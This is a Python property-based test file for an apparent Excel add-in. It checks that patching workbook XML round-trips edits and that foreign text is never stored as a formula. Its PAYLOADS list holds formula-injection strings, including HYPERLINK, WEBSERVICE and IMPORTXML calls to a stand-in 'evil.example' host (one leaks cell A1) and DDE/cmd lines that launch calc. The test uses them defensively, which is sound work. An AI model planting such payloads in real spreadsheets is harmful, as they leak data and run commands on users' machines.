"""Laws of patching: reading what was written gives what the edits say, and text never becomes a formula."""

from __future__ import annotations

import io
import re
from typing import Any

import openpyxl
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from addin.hosts.ooxml.package import Package
from addin.hosts.ooxml.patching.workbook import patch_package
from addin.hosts.xlsx import read_xlsx
from addin.sheet.address import where
from addin.sheet.edit import Edit, SetFill, SetValue, apply_edits
from addin.sheet.snapshot import Cell, Snapshot
from tests.support.lossless import parts_of

PAYLOADS = [
    f"{lead}{body}"
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "=-+")
    for body in (
        'HYPERLINK("http://evil.example/?x="&A1,"klik")',
        'WEBSERVICE("http://evil.example/")',
        'IMPORTXML("http://evil.example/","//a")',
        "cmd|' /C calc'!A0",
        'DDE("cmd";"/C calc";"x")',
        "1+1",
        "SUM(A1:A9)",
        '_xlfn.FILTERXML(A1,"//x")',
        'INDIRECT("Blad1!A1")',
        "]]></t><f>1+1</f>",
    )
]  # fmt: skip

TEXTS = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["V", "NV", "=1+1", "_x0041_", " a ", "a\nb", "<&>\"'", "]]>", "{x}", "\u2713"]),
).filter(lambda said: said.replace("\r\n", "\n") == said and not any("\ud800" <= sign <= "\udfff" for sign in said))
VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**9), 10**9),
    st.floats(-1e12, 1e12).map(lambda number: round(number, 6)),
    TEXTS,
)
FILLS = st.sampled_from([None, "#AFDA97", "#EB7E66", "#DDEBF7", "#000000", "#FFFFFF"])
PLACES = st.tuples(st.integers(1, 12), st.integers(1, 30))
CELLS = st.dictionaries(PLACES, st.tuples(VALUES, FILLS, st.booleans()), max_size=25)


def workbook(cells: dict[tuple[int, int], tuple[Any, str | None, bool]]) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("Blad1")
        sheet.set_row(2, 20, book.add_format({"italic": True}))
        for (row, column), (value, fill, framed) in cells.items():
            dress = {"border": 1} if framed else {}
            shape = book.add_format({**dress, **({"bg_color": fill} if fill else {})})
            if isinstance(value, str):
                sheet.write_string(row - 1, column - 1, "".join(sign for sign in value if sign.isprintable()), shape)
            else:
                sheet.write(row - 1, column - 1, value, shape)
    return stream.getvalue()


def edits_on(snapshot: Snapshot, drawn: list[tuple[tuple[int, int], Any, bool]]) -> list[Edit]:
    """Turn draws into edits that expect what each cell holds by then."""
    cells = {place: (cell.value, cell.look.fill) for place, cell in snapshot.sheets[0].cells.items()}
    edits: list[Edit] = []
    for place, new, as_fill in drawn:
        value, fill = cells.get(place, (None, None))
        at = where("Blad1", *place)
        edits.append(SetFill(at, fill, new) if as_fill else SetValue(at, value, new))
        cells[place] = (value, new) if as_fill else (new, fill)
    return edits


def seen(snapshot: Snapshot) -> dict[tuple[int, int], tuple[Any, ...]]:
    """Return what can be seen; a cell with neither value nor fill is as good as not there."""
    return {
        place: (isinstance(cell.value, bool), cell.value, cell.formula, cell.look.fill, cell.shown_fill)
        for place, cell in snapshot.sheets[0].cells.items()
        if (cell.value, cell.look.fill) != (None, None)
    }


EDITS = st.lists(
    st.one_of(
        st.tuples(PLACES, VALUES.filter(lambda value: value != ""), st.just(False)),  # noqa: FBT003
        st.tuples(PLACES, FILLS, st.just(True)),  # noqa: FBT003
    ),
    max_size=30,
)


@settings(max_examples=60)
@given(cells=CELLS, drawn=EDITS)
def test_reading_what_was_written_gives_what_the_edits_say(
    cells: dict[tuple[int, int], tuple[Any, str | None, bool]], drawn: list[tuple[tuple[int, int], Any, bool]]
) -> None:
    data = workbook(cells)
    before = read_xlsx(data)
    edits = edits_on(before, drawn)

    after = read_xlsx(patch_package(Package(data), edits).data)

    assert seen(after) == seen(apply_edits(before, edits))


@settings(max_examples=30)
@given(cells=CELLS, drawn=st.lists(st.tuples(PLACES, FILLS, st.just(True)), max_size=20))  # noqa: FBT003
def test_taking_fills_back_gives_the_very_sheet_back(
    cells: dict[tuple[int, int], tuple[Any, str | None, bool]], drawn: list[tuple[tuple[int, int], Any, bool]]
) -> None:
    data = workbook(cells)
    before = read_xlsx(data)
    there = [draw for draw in drawn if draw[0] in before.sheets[0].cells]
    edits = edits_on(before, there)
    back = [SetFill(edit.where, edit.new, edit.old) for edit in reversed(edits) if isinstance(edit, SetFill)]

    once = patch_package(Package(data), edits).data
    twice = patch_package(Package(once), back).data

    part = "xl/worksheets/sheet1.xml"
    assert parts_of(twice)[part] == parts_of(data)[part]


def test_foreign_text_never_becomes_a_formula() -> None:
    """A hundred payloads: none is in a formula, all are read back as they were, also by openpyxl."""
    data = workbook({(1, 1): ("hoofding", None, False)})
    edits: list[Edit] = [SetValue(where("Blad1", row, 2), None, said) for row, said in enumerate(PAYLOADS, start=2)]

    after = patch_package(Package(data), edits).data

    xml = parts_of(after)["xl/worksheets/sheet1.xml"].decode()
    assert len(PAYLOADS) == 100
    assert not re.search(r"<(?:\w+:)?f[\s>/]", xml)
    cells = read_xlsx(after).sheets[0].cells
    assert [cells.get((row, 2), Cell(0, 0)).value for row in range(2, 102)] == PAYLOADS
    sheet = openpyxl.load_workbook(io.BytesIO(after))["Blad1"]
    for row, said in enumerate(PAYLOADS, start=2):
        assert sheet.cell(row, 2).data_type in {"s", "inlineStr"}
        assert sheet.cell(row, 2).quotePrefix == said.startswith(("=", "+", "-", "@", "\t", "\r"))
